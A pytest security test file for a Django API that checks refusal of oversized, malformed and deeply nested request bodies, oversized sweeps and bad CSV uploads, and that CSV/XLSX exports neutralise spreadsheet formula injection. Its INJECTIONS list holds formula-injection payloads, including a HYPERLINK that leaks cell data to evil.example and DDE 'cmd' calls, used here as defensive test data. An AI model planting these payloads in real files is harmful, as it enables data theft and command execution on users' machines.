"""Hostile input: every write endpoint answers a clear 4xx (never 5xx) and stores nothing.

* bodies over DATA_UPLOAD_MAX_MEMORY_SIZE, JSON nested 100k deep, bytes that are not UTF-8, a wrong
  content type — against every POST/PUT/PATCH endpoint found by the URL resolver;
* sweep axes that expand to millions of runs are refused, naming the limit, before anything is built;
* CSV imports: non-UTF-8 files, binary junk, NUL bytes, over-long fields, over-size files → 4xx with
  nothing stored; formula-injection cells survive import as text but every CSV/XLSX export neutralises
  them (no cell a spreadsheet would evaluate).
"""

from __future__ import annotations

import csv
import io
import itertools
import json
from typing import Any

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from rest_framework.test import APIClient

from tests.security.endpoints import Endpoint, api_endpoints
from tests.security.seed import World, seed_world

pytestmark = pytest.mark.django_db

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
INJECTIONS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]


@pytest.fixture
def world() -> World:
    return seed_world()


@pytest.fixture
def admin(world: World) -> APIClient:
    c = APIClient()
    c.force_login(world.home.users["admin"])
    c.raise_request_exception = False
    return c


def _fingerprint() -> dict[str, int]:
    """Row counts of every domain table (a refused request must not change any)."""
    from django.apps import apps

    return {m._meta.label: m._default_manager.count() for m in apps.get_models()
            if m._meta.app_label in ("planning", "simulations", "accounts")}


def _write_endpoints(world: World) -> list[tuple[Endpoint, str]]:
    from tests.security.test_authz_matrix import RESOURCE_OBJECT, home_objects

    objs = home_objects(world)
    out = []
    for ep in api_endpoints():
        if ep.method not in ("POST", "PUT", "PATCH") or ep.action == "cancel":
            continue  # cancel takes no body (it never reads one)
        url = ep.url(pk=objs[RESOURCE_OBJECT[ep.resource]].pk) if ep.is_detail else ep.url()
        out.append((ep, url))
    assert len(out) >= 10
    return out


def _assert_error_body(resp: Any, *codes: int) -> dict[str, Any]:
    assert resp.status_code in codes, (resp.status_code, resp.content[:300])
    body = resp.json()
    assert body["status"] == resp.status_code and body["errors"], body
    return body


# --- request bodies -----------------------------------------------------------------------------------------
def test_oversized_body_is_refused(world, admin) -> None:
    limit = settings.DATA_UPLOAD_MAX_MEMORY_SIZE
    big = json.dumps({"name": "x" * (limit + 1024), "description": "y"})
    before = _fingerprint()
    failures = []
    for ep, url in _write_endpoints(world):
        resp = admin.generic(ep.method, url, big, content_type="application/json")
        if resp.status_code not in ((415,) if "import" in ep.route else (400, 413)) or not resp.content.startswith(b"{"):
            failures.append(f"{ep.id}: {resp.status_code} {resp.content[:120]!r}")
    assert not failures, "oversized JSON bodies must be refused with 413/400:\n" + "\n".join(failures)
    assert _fingerprint() == before


def test_deeply_nested_json_is_refused(world, admin) -> None:
    deep = "[" * 100_000 + "]" * 100_000
    deep_obj = '{"a":' * 50_000 + "1" + "}" * 50_000
    before = _fingerprint()
    failures = []
    for ep, url in _write_endpoints(world):
        for payload in (deep, deep_obj):
            resp = admin.generic(ep.method, url, payload, content_type="application/json")
            if resp.status_code not in (400, 413, 415):
                failures.append(f"{ep.id}: {resp.status_code} {resp.content[:120]!r}")
    assert not failures, "deeply nested JSON must be a 400:\n" + "\n".join(failures)
    assert _fingerprint() == before


@pytest.mark.parametrize(
    "payload,content_type,codes",
    [
        (b'{"name": "caf\xe9"}', "application/json", (400,)),
        (b"\xff\xfe{\x00}\x00", "application/json", (400,)),
        (b'{"name": "x"', "application/json", (400,)),
        (b'{"name": NaN}', "application/json", (400,)),
        (b"name=x", "text/plain", (415,)),
        (b'{"name": "x"}', "application/json; charset=rot13", (400, 415)),
    ],
    ids=["latin1", "utf16", "truncated", "nan", "text-plain", "bad-charset"],
)
def test_malformed_bodies_are_4xx(world, admin, payload, content_type, codes) -> None:
    before = _fingerprint()
    failures = []
    for ep, url in _write_endpoints(world):
        if "import" in ep.route:
            continue  # multipart endpoints: see the CSV tests
        resp = admin.generic(ep.method, url, payload, content_type=content_type)
        if resp.status_code >= 500 or resp.status_code in (200, 201, 202):
            failures.append(f"{ep.id}: {resp.status_code} {resp.content[:120]!r}")
        elif ep.route in ("api/v1/fleets/", "api/v1/workloads/", "api/v1/preview/") and resp.status_code not in codes:
            failures.append(f"{ep.id}: want {codes}, got {resp.status_code} {resp.content[:120]!r}")
    assert not failures, "\n".join(failures)
    assert _fingerprint() == before


# --- sweeps -----------------------------------------------------------------------------------------------
@pytest.mark.parametrize("via", ["sweeps", "scenario"])
def test_sweep_expanding_to_millions_of_runs_is_refused_naming_the_limit(world, admin, via, monkeypatch) -> None:
    from types import SimpleNamespace

    from simulations.models import SimulationRun, Sweep
    from simulations.services import sweeps as sweep_services

    work: list[str] = []  # the product is never built and no value is examined: refused from the counts
    monkeypatch.setattr(sweep_services, "itertools",
                        SimpleNamespace(product=lambda *a: work.append("product") or itertools.product(*a)))
    real_value_error = sweep_services._axis_value_error
    monkeypatch.setattr(sweep_services, "_axis_value_error",
                        lambda *a: work.append("value") or real_value_error(*a))

    limit = settings.FP_MAX_SWEEP_RUNS
    axes = {
        "cluster.nic_gbps": list(range(100, 120)),
        "cluster.gpus": [8 * i for i in range(1, 21)],
        "training.global_batch": [64 * i for i in range(1, 21)],
        "training.micro_batch": list(range(1, 21)),
        "parallelism.tp": [1, 2, 4, 8] * 5,
        "cluster.oversubscription": [1.0 + i / 10 for i in range(20)],
    }  # 20**6 = 64,000,000 runs
    sweeps, runs = Sweep.objects.count(), SimulationRun.objects.count()
    url = "/api/v1/sweeps/" if via == "sweeps" else f"/api/v1/scenarios/{world.home.scenario.pk}/sweep/"
    body: dict[str, Any] = {"axes": axes, "kind": "predict"}
    if via == "sweeps":
        body["scenario"] = world.home.scenario.pk
    resp = admin.post(url, body, format="json")
    errors = _assert_error_body(resp, 400)["errors"]
    text = json.dumps(errors)
    assert "64000000" in text.replace(",", "") and str(limit) in text and "FP_MAX_SWEEP_RUNS" in text, errors
    assert work == [], "the limit is checked before expanding the product (its time: benchmarks/bench_refusals.py)"
    assert (Sweep.objects.count(), SimulationRun.objects.count()) == (sweeps, runs)

    # One axis with a huge list (small enough to fit under the body limit) is refused the same way.
    resp = admin.post(url, {**body, "axes": {"cluster.nic_gbps": list(range(100_000))}}, format="json")
    assert "FP_MAX_SWEEP_RUNS" in json.dumps(_assert_error_body(resp, 400)["errors"])
    assert (Sweep.objects.count(), SimulationRun.objects.count()) == (sweeps, runs)
    assert work == []
    small = admin.post(url, {**body, "axes": {"cluster.nic_gbps": [200, 400]}}, format="json")
    assert small.status_code == 202 and "product" in work, "the counter sees an accepted sweep's expansion"


# --- CSV imports ------------------------------------------------------------------------------------------
def _upload(client: APIClient, url: str, content: bytes, name: str = "data.csv") -> Any:
    return client.post(url, {"file": SimpleUploadedFile(name, content, content_type="text/csv")}, format="multipart")


def _import_urls(world: World) -> list[str]:
    urls = [f"/api/v1/catalogs/{world.home.catalog.pk}/import/", "/api/v1/fleets/import/"]
    discovered = {"/" + ep.route.replace("{pk}", str(world.home.catalog.pk)) for ep in api_endpoints()
                  if ep.route.endswith("import/")}
    assert set(urls) == discovered, f"new import endpoints to cover: {discovered - set(urls)}"
    return urls


BAD_FILES = {
    "latin-1": "name,server_model,server_count\nM\u00fcnchen,HGX-H100,2\n".encode("latin-1"),
    "utf-16": "name,server_model,server_count\nx,HGX-H100,2\n".encode("utf-16"),
    "binary": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 4,
    "nul-bytes": b"name,server_model,server_count\nx\x00y,HGX-H100,2\n",
    "empty": b"",
    "header-only": b"name,server_model,server_count\n",
    "huge-field": b"name,server_model,server_count\n" + b"a" * 200_000 + b",HGX-H100,2\n",
    "unbalanced-quote": b'name,server_model,server_count\n"x,HGX-H100,2\n' + b"y,z,1\n" * 10,
}


@pytest.mark.parametrize("kind", sorted(BAD_FILES))
def test_bad_csv_files_are_refused_and_nothing_is_stored(world, admin, kind) -> None:
    before = _fingerprint()
    for url in _import_urls(world):
        resp = _upload(admin, url, BAD_FILES[kind])
        assert 400 <= resp.status_code < 500, (kind, url, resp.status_code, resp.content[:300])
        assert resp.json()["status"] == resp.status_code
        if kind in ("latin-1", "utf-16"):
            assert "UTF-8" in resp.content.decode(), resp.content[:300]
    assert _fingerprint() == before


def test_oversized_csv_upload_is_refused(world, admin) -> None:
    """A file over the upload limit is refused up front (not parsed row by row)."""
    row = b"MX-%06d,gpu,Bulk GPU,1000,700\n"
    body = b"key,kind,name,unit_price_usd,power_w\n" + b"".join(row % i for i in range(110_000))
    assert len(body) > settings.DATA_UPLOAD_MAX_MEMORY_SIZE
    before = _fingerprint()
    resp = _upload(admin, f"/api/v1/catalogs/{world.home.catalog.pk}/import/", body)
    assert resp.status_code in (400, 413), (resp.status_code, resp.content[:300])
    assert _fingerprint() == before


def _cells_csv(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]


def _cells_xlsx(data: bytes) -> list[Any]:
    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(data))  # formulas are kept as formulas (data_only=False)
    out = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                out.append(cell.value)
    return out


def _dangerous(cells: list[Any]) -> list[str]:
    bad = []
    for value in cells:
        if isinstance(value, str) and value.startswith(FORMULA_START):
            try:
                float(value)  # a negative number is data, not a formula
            except ValueError:
                bad.append(value)
    return bad


def test_formula_injection_cells_are_escaped_in_every_export(world, admin) -> None:
    from planning.models import CatalogItem
    from simulations import services

    h = world.home
    server = CatalogItem.objects.get(version=h.catalog.latest_version(), key=h.fleet.server_model)
    # A catalog CSV that renames the fleet's server model to a formula, with a formula source too.
    out = io.StringIO()
    w = csv.writer(out)
    w.writerow(["key", "kind", "name", "unit_price_usd", "power_w", "specs", "source"])
    w.writerow([server.key, server.kind, INJECTIONS[0], server.unit_price_usd, server.power_w,
                json.dumps(server.specs), INJECTIONS[1]])
    resp = _upload(admin, f"/api/v1/catalogs/{h.catalog.pk}/import/", out.getvalue().encode())
    assert resp.status_code == 201, resp.content[:500]
    stored = CatalogItem.objects.get(version=h.catalog.latest_version(), key=server.key)
    assert stored.name == INJECTIONS[0], "import keeps the text as data (escaping is the exporter's job)"

    # A fleet CSV with formula cells: stored verbatim as text, nothing evaluated.
    fleets_csv = "name,server_model,server_count,site,notes\n" + "\n".join(
        f'"{v.replace(chr(34), chr(34) * 2)}",HGX-H100,2,"{v.replace(chr(34), chr(34) * 2)}",n' for v in INJECTIONS[1:3]
    ) + "\n"
    resp = _upload(admin, "/api/v1/fleets/import/", fleets_csv.encode())
    assert resp.status_code == 201, resp.content[:500]

    # A scenario named like a formula, run as TCO on that catalog (line items carry the item name/source).
    resp = admin.patch(f"/api/v1/scenarios/{h.scenario.pk}/", {"name": INJECTIONS[3]}, format="json")
    assert resp.status_code == 200, resp.content[:300]
    run = services.run_submit(scenario=h.scenario, user=h.users["admin"], kind="tco", force=True)
    services.run_execute(run_id=run.pk)
    run.refresh_from_db()
    assert run.status == "succeeded", run.error
    report = admin.post("/api/v1/reports/", {"name": INJECTIONS[4], "runs": [run.pk, h.run.pk], "baseline": h.run.pk},
                        format="json")
    assert report.status_code == 201, report.content[:300]

    exports = [
        f"/api/v1/runs/{run.pk}/export/?fmt={{fmt}}",
        f"/api/v1/reports/compare/?runs={run.pk},{h.run.pk}&baseline={h.run.pk}&fmt={{fmt}}",
        f"/api/v1/reports/{report.json()['id']}/export/?fmt={{fmt}}",
    ]
    found_payload = False
    for template in exports:
        for fmt, cells_of in (("csv", _cells_csv), ("xlsx", _cells_xlsx)):
            resp = admin.get(template.format(fmt=fmt))
            assert resp.status_code == 200, (template, fmt, resp.status_code, resp.content[:300])
            assert resp["X-Content-Type-Options"] == "nosniff"
            assert resp["Content-Disposition"].startswith("attachment;")
            cells = cells_of(resp.content)
            assert not _dangerous(cells), (template, fmt, _dangerous(cells)[:5])
            found_payload |= any(isinstance(c, str) and "HYPERLINK" in c for c in cells)
    assert found_payload, "the injected item name should appear (escaped) in the line-item export"
